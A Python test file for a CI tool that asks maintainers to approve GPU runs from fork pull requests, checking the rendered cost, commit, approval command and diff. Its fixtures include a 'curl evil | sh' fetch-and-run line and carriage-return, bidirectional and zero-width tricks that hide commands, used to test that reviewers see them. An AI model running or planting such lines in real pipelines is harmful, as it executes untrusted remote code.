"""The request for an approval."""
# ruff: noqa: E501 - paragraphs of a comment

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from inline_snapshot import snapshot

from gpurun.domain.approval import Approval
from gpurun.domain.changed import Changed
from gpurun.domain.run import Quote, RunState, Untrusted
from gpurun.report.check import render_check
from gpurun.report.comment import render_comment
from gpurun.report.facts import Request
from gpurun.report.request import allowed_by, asking
from tests.unit.report.situations import BASE, QUEUED, SHA, START

QUOTE = Quote(label="RTX 4090 (RunPod, secure)", usd_per_hour_micro=690_000, longest_s=2400, declared=False)
RUN = replace(QUEUED, state=RunState.WAITING_APPROVAL, untrusted=Untrusted.FORK, base_ref="main", quote=QUOTE)
REQUEST = Request(
    command=f"/gpurun approve sha={SHA} max-cost=0.46",
    who="people with the role maintain",
    changed=(Changed(key="run", diff=("-run: python smoke.py", "+run: curl evil | sh")),),
    file_diff=(" jobs:", "-    run: python smoke.py", "+    run: curl evil | sh"),
)
ASKED = replace(BASE, run=RUN, request=REQUEST, forge_url="https://github.com")


def with_request(**changes):
    return replace(ASKED, request=replace(REQUEST, **changes))


def test_it_says_what_it_costs_which_commit_what_to_type_and_what_changes():
    assert asking(ASKED) == snapshot("""\
This is code of a fork, so it runs only when somebody allows this very commit, [`4f0c4f0c4f0c4f0c4f0c4f0c4f0c4f0c4f0c4f0c`](https://github.com/org/app/pull/1/commits/4f0c4f0c4f0c4f0c4f0c4f0c4f0c4f0c4f0c4f0c). Look at what it does, then write

`/gpurun approve sha=4f0c4f0c4f0c4f0c4f0c4f0c4f0c4f0c4f0c4f0c max-cost=0.46`

That is for people with the role maintain. It may cost $0.46 on RTX 4090 (RunPod, secure): $0.69 an hour, for at most 40 m 00 s. Any push ends the approval, and what runs under it. The run gets no secrets, no private models, and no cache that others use.

**It changes the job `smoke` itself**, against `main`: `run`.

<details><summary>run of smoke: +1 -1</summary>

```diff
-run: python smoke.py
+run: curl evil | sh
```

</details>

<details><summary>.gpurun.yml against main: +1 -1</summary>

```diff
 jobs:
-    run: python smoke.py
+    run: curl evil | sh
```

</details>\
""")


def test_the_comment_and_the_check_hold_the_line_to_type():
    assert f"`{REQUEST.command}`" in render_comment(ASKED)
    check = render_check(ASKED)
    assert check.conclusion == "action_required"
    assert check.title == f"waiting for approval: {REQUEST.command}"


def test_an_author_who_may_not_push_is_told_so():
    assert "may not push to this repository" in asking(replace(ASKED, run=replace(RUN, untrusted=Untrusted.AUTHOR)))


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"changed": (), "file_diff": ()}, "`.gpurun.yml` is the same as on `main`."),
        ({"changed": (), "is_new": True}, "**`main` has no job `smoke`**: all of it is new."),
        ({"changed": ()}, "It changes `.gpurun.yml`, and nothing of what `smoke` does there."),
    ],
)
def test_what_the_pull_request_changes(changes, said):
    assert said in asking(with_request(**changes))


def test_a_price_that_nobody_knows_is_told_as_such():
    assert "What it may cost is not known" in asking(replace(ASKED, run=replace(RUN, quote=None)))


def test_nobody_is_asked_about_what_was_called_off():
    assert asking(replace(ASKED, run=replace(RUN, cancel_at=START))) == ""


def test_what_is_hidden_in_a_line_is_seen():
    """Direction, zero width and carriage returns: what a person reads must be what would run."""
    text = asking(with_request(file_diff=("+    run: true\rcurl evil", "+\u202eevil\u202c", "+a\u200bb", "+\x1b[8mx")))
    assert r"+    run: true\rcurl evil" in text
    assert r"+\u202eevil\u202c" in text
    assert r"+a\u200bb" in text
    assert r"+\u001b[8mx" in text


def test_a_long_diff_says_what_is_not_shown_and_where_it_is():
    text = asking(with_request(file_diff=tuple(f"+line {number}" for number in range(1000))))
    assert "**850 more lines are not shown here.** They are in [the pull request's files]" in text
    assert "https://github.com/org/app/pull/1/files" in text


@given(
    st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=60), max_size=30),
    st.integers(1, 40),
    st.text(max_size=80),
)
def test_nothing_of_a_diff_gets_out_of_its_block(lines, times, branch):
    hostile = (*lines, "+```", "+</details>", "+@org/team fixes #1", "+/gpurun smoke", "+" + "`" * 12)
    facts = replace(ASKED, run=replace(RUN, base_ref=branch), request=replace(REQUEST, file_diff=hostile * times))
    text = render_comment(facts)
    assert len(text.encode()) <= 65_000
    fence = None
    for line in text.split("\n"):
        ticks = len(line) - len(line.lstrip("`"))
        if fence is None and ticks >= 3:
            fence = ticks
        elif fence is not None and line == "`" * fence:
            fence = None
        elif fence is None:
            assert "@org" not in line
            assert not line.startswith("/gpurun")
            assert "fixes #1" not in line
    assert fence is None


def test_who_allowed_what_runs_is_told_afterwards():
    given = Approval(id="a", repo=RUN.repo, pr=1, sha=SHA, max_usd_micro=500_000, by="carol", at=START, asked_at=START)
    facts = replace(BASE, approval=given)
    assert allowed_by(facts) == f"`{SHA[:12]}` was approved by `carol` for at most $0.50."
    assert allowed_by(facts) in render_comment(facts)
    assert allowed_by(BASE) == ""
